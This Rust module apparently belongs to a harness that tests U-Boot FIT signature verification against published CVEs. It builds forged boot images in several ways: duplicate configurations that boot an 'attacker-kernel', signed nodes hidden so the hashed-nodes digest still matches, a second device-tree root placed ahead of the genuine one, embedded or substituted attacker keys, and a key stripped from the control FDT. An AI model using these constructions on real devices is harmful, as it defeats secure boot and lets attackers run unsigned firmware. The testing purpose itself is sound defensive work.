//! Forged signatures, false configurations, false keys.
//!
//! Sources: U-Boot `doc/usage/fit/signature.rst` and `boot/image-fit-sig.c`; CVE-2020-10648,
//! CVE-2021-27097, CVE-2021-27138, CVE-2026-46728.

use std::fs::File;
use std::path::Path;

use diag::{Failure, Outcome};
use fit::fdt::{Blocks, Node, Tree};
use fit::key::Padding;
use fit::sign::SignOptions;

use super::fit_tree::{edit, node};
use super::{Case, Names, Subject, bad_fit, names, unfit};

/// Name of the image with the attacker's code.
const FALSE_KERNEL: &str = "attacker-kernel";

/// Name of the node that hides what was signed.
const HIDDEN: &str = "hidden";

/// Path of the configuration that is booted.
fn configuration(names: &Names) -> Outcome<String> {
    Ok(format!("/configurations/{}", names.get(names::CONFIGURATION)?))
}

pub(super) fn clone_configuration(
    case: &mut Case<'_>,
    name: &str,
    kernel: &str,
    first: bool,
) -> Outcome<String> {
    let signed = configuration(&case.subject.names)?;
    edit(case, |tree| {
        let mut clone = node(tree, &signed)?.clone();
        clone.name = name.to_owned();
        clone.set_text("kernel", kernel);
        let configurations = node(tree, "/configurations")?;
        let at = if first { 0 } else { configurations.children.len() };
        configurations.children.insert(at, clone);
        let place = if first { "in front of" } else { "behind" };
        Ok(format!("configuration `{name}`, {place} the signed one and with its signature, boots `{kernel}`"))
    })
}

/// The node that hides a signed one. U-Boot hashes the end of a node that is not listed where it stands right behind one that is: an
/// empty node stands between, without which the digest would be another (`boot/fdt_region.c`, `fdt_find_regions`).
fn hidden_behind(signed: Node<'_>) -> Node<'_> {
    let mut hidden = Node::new(HIDDEN);
    hidden.children.extend([signed, Node::new("end")]);
    hidden
}

pub(super) fn hashed_nodes(case: &mut Case<'_>) -> Outcome<String> {
    super::fit_tree::add_image(case, FALSE_KERNEL, "kernel")?;
    let found = &case.subject.names;
    let (path, signature) = (configuration(found)?, found.get(names::SIGNATURE)?);
    edit(case, |tree| {
        let signed = node(tree, &path)?.clone();
        let mut forged = signed.clone();
        forged.set_text("kernel", FALSE_KERNEL);
        let signature = forged.child_mut(signature).ok_or_else(|| unfit("the FIT is not signed"))?;
        let listed = signature.texts("hashed-nodes").ok_or_else(|| unfit("it has no `hashed-nodes`"))?;
        let hidden = format!("/configurations/{HIDDEN}/{}", signed.name);
        // Whole names only: `conf-1` is the beginning of `conf-10`.
        let moved = |listed: &str| match listed.strip_prefix(&path) {
            Some(rest) if rest.is_empty() || rest.starts_with('/') => format!("{hidden}{rest}"),
            _ => listed.to_owned(),
        };
        let listed: Vec<String> = listed.into_iter().map(moved).collect();
        signature.set_texts("hashed-nodes", &listed.iter().map(String::as_str).collect::<Vec<_>>());
        let configurations = node(tree, "/configurations")?;
        configurations.children.retain(|child| child.name != signed.name);
        configurations.children.push(hidden_behind(signed));
        configurations.children.push(forged);
        Ok(format!(
            "a false `{path}` boots `{FALSE_KERNEL}`; its `hashed-nodes` name the signed one, moved to `{hidden}`"
        ))
    })
}

pub(super) fn hide_image(case: &mut Case<'_>, image: &str) -> Outcome<String> {
    let found = &case.subject.names;
    let signature = format!("{}/{}", configuration(found)?, found.get(names::SIGNATURE)?);
    edit(case, |tree| {
        let images = node(tree, "/images")?;
        let at = images.children.iter().position(|child| child.name == image);
        let at = at.ok_or_else(|| unfit(format!("the FIT has no image `{image}`")))?;
        let signed = images.children[at].clone();
        // Where it was: the order of what is hashed stays the same.
        images.children.insert(at, hidden_behind(signed));
        let signature = node(tree, &signature)?;
        let listed = signature.texts("hashed-nodes").ok_or_else(|| unfit("it has no `hashed-nodes`"))?;
        let (from, to) = (format!("/images/{image}"), format!("/images/{HIDDEN}/{image}"));
        let moved = |listed: &str| match listed.strip_prefix(&from) {
            Some(rest) if rest.is_empty() || rest.starts_with('/') => format!("{to}{rest}"),
            _ => listed.to_owned(),
        };
        let listed: Vec<String> = listed.into_iter().map(moved).collect();
        signature.set_texts("hashed-nodes", &listed.iter().map(String::as_str).collect::<Vec<_>>());
        Ok(String::new())
    })?;
    super::fit_tree::replace_data(case, image, super::HashFate::Update)?;
    Ok(format!(
        "the signed `/images/{image}` is at `/images/{HIDDEN}/{image}`, which `hashed-nodes` name, and the attacker's code in its place"
    ))
}

pub(super) fn resign(case: &mut Case<'_>, key_name: Option<&str>) -> Outcome<String> {
    let name = key_name.unwrap_or(&case.subject.key_name).to_owned();
    sign(case, &name, case.subject.padding)?;
    Ok(format!("signed anew with the attacker's key, named `{name}`"))
}

/// Signs every configuration with the attacker's key.
pub(super) fn sign(case: &mut Case<'_>, key_name: &str, padding: Padding) -> Outcome<()> {
    let subject = case.subject;
    let options = SignOptions {
        key_name: key_name.to_owned(),
        algorithm: subject.algorithm,
        padding,
        timestamp: subject.timestamp,
        node: subject.names.get(names::SIGNATURE)?.to_owned(),
    };
    let tree = Tree::parse(&case.fit).map_err(|e| bad_fit(&e))?;
    let signed = fit::sign::sign(tree, &options, subject.attacker()?).map_err(|e| bad_fit(&e))?;
    case.fit = signed;
    Ok(())
}

pub(super) fn other_product(case: &mut Case<'_>, name: &str) -> Outcome<String> {
    let found = &case.subject.names;
    let (path, kernel) = (configuration(found)?, found.get(names::KERNEL)?);
    edit(case, |tree| {
        let configuration = node(tree, &path)?;
        configuration.set_text("description", name);
        configuration.set_text("compatible", name);
        tree.root.set_text("description", &format!("{name} 1.0"));
        Ok(String::new())
    })?;
    super::fit_tree::replace_data(case, kernel, super::HashFate::Update)?;
    resign(case, Some(name))?;
    Ok(format!("a whole image of the product `{name}`, validly signed with that product's key `{name}`"))
}

pub(super) fn embed_key(case: &mut Case<'_>) -> Outcome<String> {
    let subject = case.subject;
    let key = subject.attacker()?.public_key();
    // The same node as in a control FDT, by the same writer.
    case.fit = fit::control_fdt::insert_key(&case.fit, &subject.key_name, subject.algorithm, &key)
        .map_err(|e| bad_fit(&e))?;
    Ok(format!(
        "the FIT itself has a node `/signature/key-{}` with the attacker's key, `required`",
        subject.key_name
    ))
}

pub(super) fn second_root(case: &mut Case<'_>) -> Outcome<String> {
    let genuine = case.fit.clone();
    let kernel = case.subject.names.get(names::KERNEL)?;
    super::fit_tree::replace_data(case, kernel, super::HashFate::Update)?;
    let (ours, theirs) = (structure(&genuine)?, structure(&case.fit)?);
    let strings = Blocks::open(&case.fit).map_err(|e| bad_fit(&e))?.strings().to_vec();
    // Header and reservations of the false tree, its structure without the end token, the signed
    // structure, and the strings: those of the signed tree are their beginning.
    let start = word(&case.fit, 2)?;
    let mut out = case.fit[..start].to_vec();
    out.extend_from_slice(&theirs[..theirs.len() - 4]);
    out.extend_from_slice(&ours);
    let strings_at = out.len();
    out.extend_from_slice(&strings);
    let fields = [(1, out.len()), (3, strings_at), (8, strings.len()), (9, strings_at - start)];
    for (index, value) in fields {
        let value = u32::try_from(value).map_err(|_| unfit("the FIT is too large to hold two roots"))?;
        out[index * 4..index * 4 + 4].copy_from_slice(&value.to_be_bytes());
    }
    case.fit = out;
    Ok("a whole tree with the attacker's kernel stands in front of the signed root".to_owned())
}

fn word(fit: &[u8], index: usize) -> Outcome<usize> {
    let bytes = fit.get(index * 4..index * 4 + 4).and_then(|bytes| bytes.try_into().ok());
    bytes.map(|bytes| u32::from_be_bytes(bytes) as usize).ok_or_else(|| unfit("the FIT has no header"))
}

/// The structure block, end token included (Devicetree Specification 0.4, 5.2 and 5.4).
fn structure(fit: &[u8]) -> Outcome<Vec<u8>> {
    let (start, bytes) = (word(fit, 2)?, word(fit, 9)?);
    let block = start.checked_add(bytes).and_then(|end| fit.get(start..end));
    block.map(<[u8]>::to_vec).ok_or_else(|| unfit("the FIT's structure is not in it"))
}

pub(super) fn remove_key(case: &mut Case<'_>) -> Outcome<String> {
    case.uboot = Some(without_key(&case.subject.uboot)?);
    Ok(format!("the key was taken out of {}'s control FDT in the flash", case.subject.verifier()))
}

/// A boot loader whose control FDT has no key.
fn without_key(uboot: &[u8]) -> Outcome<Vec<u8>> {
    let (code, control) = parts(uboot)?;
    let mut tree = Tree::parse(control).map_err(|e| bad_fit(&e))?;
    let before = tree.root.children.len();
    tree.root.children.retain(|child| child.name != "signature");
    if tree.root.children.len() == before {
        return Err(unfit("the control FDT has no key to remove"));
    }
    Ok([code, &tree.write().map_err(|e| bad_fit(&e))?].concat())
}

/// A boot loader's code, and the control FDT behind it.
pub(super) fn parts(uboot: &[u8]) -> Outcome<(&[u8], &[u8])> {
    let control = fit::control_fdt::find_control(uboot).map_err(|e| bad_fit(&e))?;
    let code = (control.as_ptr() as usize).saturating_sub(uboot.as_ptr() as usize);
    Ok((&uboot[..code], control))
}

/// Puts a changed U-Boot into the FIT of the disk's copy that SPL starts, and returns SPL without its key, which lets it through.
pub(crate) fn behind_spl(disk: &mut File, spl: &Subject, uboot: &[u8]) -> Outcome<Vec<u8>> {
    let mut case = Case::new(
        spl,
        disk.try_clone().map_err(|e| Failure::io("use", Path::new("the copy of the disk"), &e))?,
    );
    let (code, control) = parts(uboot)?;
    super::fit_tree::set_data(&mut case, spl.names.get(names::UBOOT)?, code)?;
    super::fit_tree::set_data(&mut case, spl.names.get(names::DEVICE_TREE)?, control)?;
    super::disk::write_slots(&mut case)?;
    without_key(&spl.uboot)
}

pub(super) fn trust_attacker(case: &mut Case<'_>) -> Outcome<String> {
    let subject = case.subject;
    let (code, control) = parts(&subject.uboot)?;
    let key = subject.attacker()?.public_key();
    let written = fit::control_fdt::insert_key(control, &subject.key_name, subject.algorithm, &key)
        .map_err(|e| bad_fit(&e))?;
    case.uboot = Some([code, &written].concat());
    Ok(format!(
        "U-Boot in the flash trusts the attacker's key, named `{}`, in the place of the product's",
        subject.key_name
    ))
}

#[cfg(test)]
#[path = "forge_tests.rs"]
mod tests;
